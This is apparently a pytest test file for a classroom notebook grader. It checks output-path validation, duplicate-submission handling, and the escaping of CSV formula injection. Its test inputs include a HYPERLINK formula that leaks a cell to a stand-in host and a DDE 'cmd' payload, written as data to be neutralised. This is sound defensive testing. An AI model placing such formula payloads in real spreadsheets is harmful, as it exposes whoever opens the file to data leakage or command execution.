"""Contract cases of the class grader (classroom/grading/): the output path is checked before any
notebook is graded, the CSV never holds a cell a spreadsheet runs as a formula, and two notebooks of
one name in one student's folder are graded once with the others named. Table tests; nbgrader is
replaced by a stand-in that records what it was asked to grade (one real run at the end, read
by two tests)."""

from __future__ import annotations

import csv
import shutil
from pathlib import Path

import pytest

from classroom.grading import grade_class, submissions
from classroom.grading.cli import main
from classroom.grading.results import CellScore, NotebookResult, OutputPathError, write_scores_csv

ROOT = Path(__file__).resolve().parents[1]
SOURCE = ROOT / "tests" / "fixtures" / "source" / "practice.ipynb"
HONEST = ROOT / "tests" / "fixtures" / "submissions" / "instructor" / "practice.ipynb"


@pytest.fixture
def graded(monkeypatch):
    """Stand in for nbgrader: every submission is recorded, every notebook scores 1."""
    calls = []

    def fake(jobs, workers, limits, sandbox=True, feedback_dir=None):
        results = []
        for job in jobs:
            feedback = Path(feedback_dir) / job.student / job.submitted.name if feedback_dir else None
            calls.append((job.student, job.submitted, feedback))
            if feedback is not None:
                feedback.parent.mkdir(parents=True, exist_ok=True)
                feedback.write_bytes(job.submitted.read_bytes())
            results.append(NotebookResult(job.student, job.instructor.name,
                                          [CellScore("ex1-check", 1, 1, "passed")]))
        return results

    monkeypatch.setattr(submissions, "autograde", fake)
    return calls


def _class(tmp_path: Path, *students: str) -> Path:
    folder = tmp_path / "submitted"
    for student in students:
        (folder / student).mkdir(parents=True)
        shutil.copy(HONEST, folder / student / "practice.ipynb")
    return folder


def _rows(path: Path) -> list[dict[str, str]]:
    with path.open(newline="") as f:
        return list(csv.DictReader(f))


# ------------------------------------------------- (1) the output path, checked before grading


def _folder(tmp_path):
    (tmp_path / "out").mkdir()
    return tmp_path / "out", "is a folder"


def _under_a_file(tmp_path):
    (tmp_path / "file").write_text("x")
    return tmp_path / "file" / "scores.csv", "is a file, not a folder"


def _a_special_file(tmp_path):
    return Path("/dev/null"), "not a regular file"


BAD_OUTPUTS = {"folder": _folder, "under-a-file": _under_a_file, "device": _a_special_file}


@pytest.mark.contract("data loss")
@pytest.mark.parametrize("case", BAD_OUTPUTS)
def test_a_bad_output_path_is_refused_before_any_notebook_is_graded(tmp_path, graded, case,
                                                                    capsys):
    out, says = BAD_OUTPUTS[case](tmp_path)
    submitted = _class(tmp_path, "alice", "bob")
    with pytest.raises(OutputPathError, match=says) as err:
        grade_class(submitted, [SOURCE.parent], out)
    assert str(out) in str(err.value) and "give a file name" in str(err.value)
    assert graded == []  # nothing graded, so nothing was lost
    code = main(["grade", str(submitted), "--source", str(SOURCE.parent), "--out", str(out),
                 "--no-sandbox"])
    assert code == 2 and graded == []
    message = capsys.readouterr().err
    assert "cannot grade" in message and str(out) in message and "Traceback" not in message


@pytest.mark.contract("data loss")
def test_a_feedback_path_that_is_a_file_is_refused_before_grading(tmp_path, graded):
    (tmp_path / "feedback").write_text("x")
    with pytest.raises(OutputPathError, match=r"feedback folder .* is a file"):
        grade_class(_class(tmp_path, "alice"), [SOURCE.parent], tmp_path / "scores.csv",
                    feedback_dir=tmp_path / "feedback")
    assert graded == []


@pytest.mark.contract("wrong result")
def test_a_good_output_path_in_a_new_folder_is_written(tmp_path, graded):
    out = tmp_path / "results" / "week1" / "scores.csv"
    grade_class(_class(tmp_path, "alice"), [SOURCE.parent], out, log=None)
    assert [r["student"] for r in _rows(out)] == ["alice"]


# ------------------------------------------------------------- (2) no cell runs as a formula


FORMULAS = {
    "hyperlink": '=HYPERLINK("evil.example?leak="&A1,"click")',  # no '/' in a folder name
    "plus": "+1+2",
    "minus": "-2+3",
    "at": "@SUM(A1:A9)",
    "tab": "\t=1+1",
    "carriage-return": "\r=1+1",
}


@pytest.mark.contract("wrong result")
@pytest.mark.parametrize("case", FORMULAS)
def test_a_formula_leading_student_name_is_escaped_in_the_csv(tmp_path, graded, case):
    name = FORMULAS[case]
    submitted = tmp_path / "submitted"
    (submitted / name).mkdir(parents=True)
    shutil.copy(HONEST, submitted / name / "practice.ipynb")
    out = tmp_path / "scores.csv"
    grade_class(submitted, [SOURCE.parent], out, log=None)
    (row,) = _rows(out)
    assert row["student"] == "'" + name  # shown as text, the name still readable
    assert row["total"] == "1"


@pytest.mark.contract("wrong result")
def test_formula_leading_notes_and_notebook_names_are_escaped(tmp_path):
    result = NotebookResult("=evil", "@book.ipynb", [CellScore("ex1-check", 0, 1, "failed")],
                            notes=["-submission refused: =cmd|' /C calc'!A0"])
    out = tmp_path / "scores.csv"
    write_scores_csv([result], out)
    (row,) = _rows(out)
    assert row["student"] == "'=evil" and row["notebook"] == "'@book.ipynb"
    assert row["notes"].startswith("'-submission refused")
    assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in row.values())


# ------------------------------------------------- (3) two notebooks of one name, graded once


@pytest.mark.contract("data loss")
def test_two_notebooks_of_one_name_are_graded_once_and_the_other_named(tmp_path, graded):
    submitted = _class(tmp_path, "alice", "bob")
    (submitted / "alice" / "old").mkdir()
    shutil.copy(HONEST, submitted / "alice" / "old" / "practice.ipynb")
    out, feedback = tmp_path / "scores.csv", tmp_path / "feedback"
    results = grade_class(submitted, [SOURCE.parent], out, feedback_dir=feedback, log=None)
    assert sorted(student for student, _, _ in graded) == ["alice", "bob"]
    alice = next(call for call in graded if call[0] == "alice")
    assert alice[1] == submitted / "alice" / "practice.ipynb"  # the one nearest the folder
    rows = _rows(out)
    assert [r["student"] for r in rows] == ["alice", "bob"]
    note = rows[0]["notes"]
    assert "also submitted, not graded: old/practice.ipynb" in note and "remove or rename" in note
    assert rows[1]["notes"] == ""
    assert len(results) == 2
    assert sorted(p.relative_to(feedback).as_posix() for p in feedback.rglob("*.ipynb")) == [
        "alice/practice.ipynb", "bob/practice.ipynb"]


@pytest.mark.contract("data loss")
def test_nbgrader_layout_duplicates_are_named_too(tmp_path, graded):
    submitted = tmp_path / "submitted"
    for assignment in ("week1", "week2"):
        (submitted / "alice" / assignment).mkdir(parents=True)
        shutil.copy(HONEST, submitted / "alice" / assignment / "practice.ipynb")
    (result,) = grade_class(submitted, [SOURCE.parent], None, log=None)
    assert graded[0][1] == submitted / "alice" / "week1" / "practice.ipynb"
    assert any("week2/practice.ipynb" in n for n in result.notes)
    assert submissions.duplicate_submissions(submitted, {"practice.ipynb": SOURCE}) == {
        ("alice", "practice.ipynb"): [submitted / "alice" / "week2" / "practice.ipynb"]}


# ------------------------------------------------------------------------ one real run, no mock

NAME = '=HYPERLINK("evil.example?[x]*","click")'  # nbgrader would read [x]* as a pattern
LEADS = {"equals": "=dan", "plus": "+bob", "minus": "-alice", "at": "@carol"}


@pytest.fixture(scope="module")
def real_run(tmp_path_factory) -> list[dict[str, str]]:
    """The grader's own command line, kernels and CSV writer (no stand-in), run once over one
    class: ``NAME`` with a second notebook of the same name in ``old/``, and four students whose
    folders start with =, +, - and @. Its CSV rows."""
    tmp_path = tmp_path_factory.mktemp("real-run")
    submitted = tmp_path / "submitted"
    (submitted / NAME / "old").mkdir(parents=True)
    shutil.copy(HONEST, submitted / NAME / "old" / "practice.ipynb")
    for name in (NAME, *LEADS.values()):
        (submitted / name).mkdir(parents=True, exist_ok=True)
        shutil.copy(HONEST, submitted / name / "practice.ipynb")
    out = tmp_path / "scores.csv"
    code = main(["grade", str(submitted), "--source", str(SOURCE.parent), "--out", str(out),
                 "--no-sandbox", "--workers", "2", "--cell-timeout", "20"])
    assert code == 0
    return _rows(out)


@pytest.mark.contract("wrong result")
def test_a_real_run_with_a_formula_name_and_a_duplicate(real_run):
    (row,) = [row for row in real_run if row["student"] == "'" + NAME]  # shown as text
    assert row["total"] == row["max"] == "5"
    assert "also submitted, not graded: old/practice.ipynb" in row["notes"]


# --------------------------------------- every formula-leading student folder keeps its row


@pytest.mark.contract("data loss")
def test_every_formula_leading_student_gets_a_neutralised_row_in_a_real_run(real_run):
    """Each of the four students whose folders start with =, +, - and @ has a row (never
    dropped), the name shown as text, in the real run."""
    assert sorted(row["student"] for row in real_run) == sorted(
        "'" + name for name in (NAME, *LEADS.values()))
    for row in real_run:
        assert row["total"] == row["max"] == "5"
        assert not any(v.startswith(("=", "+", "-", "@")) for v in row.values())


@pytest.mark.contract("wrong result")
def test_the_nbgrader_export_keeps_every_row_and_neutralises_formulas(tmp_path, monkeypatch):
    """``nbgrader export`` through the course's plugin: a formula-leading id or name is shown as
    text, a name holding a comma stays in its column, every submission has its row."""
    import os
    import sys

    from nbgrader.api import Gradebook

    from classroom.grading.nbgrader_plugins import CSV_KEYS, SubmittedOnlyCsvExport

    monkeypatch.setenv("PATH", f"{Path(sys.executable).parent}{os.pathsep}{os.environ['PATH']}")
    students = [*LEADS.values(), "eve, the second"]
    out = tmp_path / "grades.csv"
    with Gradebook(f"sqlite:///{tmp_path / 'gradebook.db'}") as gradebook:
        gradebook.add_assignment("ch01")
        for student in students:
            gradebook.add_student(student, last_name='=HYPERLINK("x")', first_name="-1")
            gradebook.add_submission("ch01", student)
        SubmittedOnlyCsvExport(to=str(out)).export(gradebook)
    rows = _rows(out)
    assert list(rows[0]) == list(CSV_KEYS)
    ids = sorted(row["student_id"] for row in rows)
    assert ids == sorted(["'" + s for s in LEADS.values()] + ["eve, the second"])
    for row in rows:
        assert row["last_name"] == "'=HYPERLINK(\"x\")" and row["first_name"] == "'-1"
        assert row["assignment"] == "ch01" and row["score"] == "0.0"
